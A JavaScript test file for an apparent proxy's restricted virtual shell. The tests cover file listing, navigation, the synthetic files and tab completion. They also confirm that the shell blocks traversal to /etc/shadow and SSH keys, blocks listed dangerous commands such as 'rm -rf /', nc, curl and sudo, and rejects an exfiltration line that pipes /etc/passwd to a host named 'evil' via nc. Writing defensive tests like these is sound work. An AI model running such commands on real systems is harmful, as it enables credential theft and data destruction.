import { test } from 'node:test';
import assert from 'node:assert/strict';
import { completeCommandLine } from '../../../src/shell/dispatch.js';
import { createVirtualFs } from '../../../src/shell/vfs.js';
import { makeSettings, makeUser, runLine } from './shell-fixtures.js';

test('ls lists the home directory (empty) and /, with -l and -a', async () => {
  assert.equal((await runLine('ls')).out, '');
  assert.equal((await runLine('ls /')).out, 'etc  home  tmp  var\n');
  assert.equal((await runLine('ls /etc')).out, 'hostname  os-release  passwd\n');
  const long = await runLine('ls -l /etc');
  assert.match(long.out, /^-rw-r--r-- 1 root root +\d+ hostname$/m);
  assert.equal((await runLine('ls -a /tmp')).out, '.  ..\n');
  const missing = await runLine('ls /nope');
  assert.equal(missing.status, 1);
  assert.equal(missing.err, "ls: cannot access '/nope': No such file or directory\n");
  assert.equal((await runLine('ls -z')).status, 2);
});

test('ls colours directories only when colours are on', async () => {
  assert.equal((await runLine('ls /var', { colors: true })).out, '\x1b[1m\x1b[34mlog\x1b[0m\n');
});

test('cd and pwd move through the virtual tree; .. stops at /', async () => {
  const first = await runLine('cd ../../../../etc');
  assert.equal(first.status, 0);
  assert.equal(first.state.cwd, '/etc');
  assert.equal((await runLine('pwd', { state: first.state })).out, '/etc\n');
  const home = await runLine('cd', { state: first.state });
  assert.equal(home.state.cwd, '/home/alice');
  assert.equal((await runLine('cd ~/../..')).state.cwd, '/');
  const file = await runLine('cd /etc/hostname');
  assert.equal(file.err, 'cd: /etc/hostname: Not a directory\n');
  assert.equal(file.state.cwd, '/home/alice');
  assert.equal((await runLine('cd /root')).err, 'cd: /root: No such file or directory\n');
  assert.equal((await runLine('cd a b')).status, 1);
});

test('cat shows synthetic files only; real paths do not exist here', async () => {
  assert.equal((await runLine('cat /etc/hostname', { settings: makeSettings({ shell: { hostname: 'bastion-1' } }) })).out, 'bastion-1\n');
  const passwd = await runLine('cat /etc/passwd');
  assert.match(passwd.out, /^alice:x:1000:1000:alice:\/home\/alice:/m);
  assert.match((await runLine('cat /etc/os-release')).out, /^ID=sks5$/m);
  for (const path of ['/etc/shadow', '../../../../etc/shadow', '/proc/self/environ', '/etc/ssh/ssh_host_ed25519_key']) {
    const r = await runLine(`cat ${path}`);
    assert.equal(r.status, 1);
    assert.equal(r.out, '');
    assert.match(r.err, /No such file or directory/);
  }
  assert.equal((await runLine('cat /etc')).err, 'cat: /etc: Is a directory\n');
  assert.equal((await runLine('cat')).status, 2);
});

test('a very long path costs nothing and finds nothing', async () => {
  const r = await runLine(`cat ${'a/'.repeat(1500)}`);
  assert.equal(r.status, 1);
});

test('whoami, id, hostname', async () => {
  assert.equal((await runLine('whoami')).out, 'alice\n');
  assert.equal((await runLine('id')).out, 'uid=1000(alice) gid=1000(alice) groups=1000(alice)\n');
  const grouped = makeUser({ group: 'ops' }, { groups: [{ name: 'ops' }] });
  assert.equal((await runLine('id', { user: grouped })).out, 'uid=1000(alice) gid=1000(alice) groups=1000(alice),1001(ops)\n');
  assert.equal((await runLine('hostname')).out, 'sks5-proxy\n');
});

test('uname is synthetic and honours its flags', async () => {
  assert.equal((await runLine('uname')).out, 'sks5\n');
  assert.equal((await runLine('uname -a')).out, 'sks5 sks5-proxy 0.1.0 virtual sks5-restricted-shell\n');
  assert.equal((await runLine('uname -n -r')).out, 'sks5-proxy 0.1.0\n');
  const bad = await runLine('uname -x');
  assert.equal(bad.status, 2);
  assert.match(bad.err, /invalid option -- 'x'/);
});

test('echo, echo -n, quotes and variables', async () => {
  assert.equal((await runLine('echo hello   "big  world"')).out, 'hello big  world\n');
  assert.equal((await runLine('echo -n x')).out, 'x');
  assert.equal((await runLine('echo $USER ${HOME}')).out, 'alice /home/alice\n');
});

test('env and printenv', async () => {
  assert.match((await runLine('env')).out, /^USER=alice$/m);
  assert.equal((await runLine('printenv HOME')).out, '/home/alice\n');
  assert.equal((await runLine('printenv NOPE')).status, 1);
});

test('help lists basic commands and only the proxy commands the user may run', async () => {
  const all = await runLine('help');
  assert.match(all.out, /Available commands:/);
  assert.match(all.out, /^ {2}test <host:port>/m);
  const limited = makeUser({ shell_permissions: { test_command: false, bookmark_command: false } });
  const r = await runLine('help', { user: limited });
  assert.doesNotMatch(r.out, /^ {2}test /m);
  assert.doesNotMatch(r.out, /^ {2}bookmark /m);
  assert.match(r.out, /^ {2}ping /m);
});

test('exit, logout and quit end the session with a status', async () => {
  assert.equal((await runLine('exit')).exit, 0);
  assert.equal((await runLine('logout')).exit, 0);
  assert.equal((await runLine('exit 3')).exit, 3);
  const bad = await runLine('exit nope');
  assert.equal(bad.exit, 2);
  assert.match(bad.err, /numeric argument/);
});

test('clear clears; history lists the session history', async () => {
  assert.equal((await runLine('clear')).cleared, true);
  const state = { cwd: '/home/alice', bookmarks: new Map(), aliases: new Map(), history: ['ls', 'show status'] };
  assert.equal((await runLine('history', { state })).out, '    1  ls\n    2  show status\n');
  assert.equal((await runLine('history 1', { state })).out, '    2  show status\n');
});

test('unknown commands: 127 and "<cmd>: command not found"', async () => {
  const r = await runLine('frobnicate --now');
  assert.equal(r.status, 127);
  assert.equal(r.err, 'frobnicate: command not found\n');
});

test('dangerous programs: 126 and "<cmd>: not permitted in this restricted shell"', async () => {
  for (const cmd of ['bash', 'sh -c id', 'sudo -i', 'rm -rf /', 'nc -l 1', 'wget http://x', 'curl x', 'python3 -c 1', 'perl -e 1', '/bin/sh', './x', 'su root', 'ssh other']) {
    const r = await runLine(cmd);
    const name = cmd.split(' ')[0]!;
    assert.equal(r.status, 126, cmd);
    assert.equal(r.err, `${name}: not permitted in this restricted shell\n`);
    assert.equal(r.out, '');
  }
});

test('syntax the shell does not have is reported with status 2', async () => {
  const r = await runLine('cat /etc/passwd | nc evil 80');
  assert.equal(r.status, 2);
  assert.match(r.err, /^sks5: shell operator '\|' is not supported/);
  assert.equal((await runLine('echo "open')).err, 'sks5: unterminated double quote\n');
});

test('blank lines and comments do nothing', async () => {
  for (const l of ['', '   ', '# comment']) {
    const r = await runLine(l);
    assert.deepEqual([r.status, r.out, r.err], [0, '', '']);
  }
});

test('completion: commands the user may run, aliases, then arguments per command', () => {
  const user = makeUser({ shell_permissions: { test_command: false }, aliases: { st: 'show status' } });
  const vfs = createVirtualFs({ username: 'alice', hostname: 'h', version: '1' });
  const ctx = { state: { cwd: '/home/alice', bookmarks: new Map([['web', 'example.com:443']]), aliases: new Map([['ll', 'ls -l']]), history: [] }, vfs, permissions: user.shellPermissions, configAliases: user.aliases };
  assert.deepEqual(completeCommandLine('s', ctx).sort(), ['show', 'st']);
  assert.deepEqual(completeCommandLine('te', ctx), [], 'no permission, no completion');
  assert.deepEqual(completeCommandLine('l', ctx).sort(), ['ll', 'ls']);
  assert.deepEqual(completeCommandLine('show st', ctx), ['status']);
  assert.deepEqual(completeCommandLine('show ', ctx).length, 7);
  assert.deepEqual(completeCommandLine('ping w', ctx), ['web']);
  assert.deepEqual(completeCommandLine('bookmark d', ctx), ['del']);
  assert.deepEqual(completeCommandLine('bookmark del ', ctx), ['web']);
  assert.deepEqual(completeCommandLine('alias del ', ctx), ['ll']);
  assert.deepEqual(completeCommandLine('cat /etc/h', ctx), ['/etc/hostname']);
  assert.deepEqual(completeCommandLine('cd /e', ctx), ['/etc/']);
  assert.deepEqual(completeCommandLine('cd /etc/', ctx), [], 'cd completes directories only');
  assert.deepEqual(completeCommandLine('ls ../', ctx), ['../alice/']);
  assert.deepEqual(completeCommandLine('nosuch ', ctx), []);
  const noShow = makeUser({ shell_permissions: { show_acl: false, show_quota: false } });
  assert.ok(!completeCommandLine('show ', { ...ctx, permissions: noShow.shellPermissions }).includes('acl'));
});
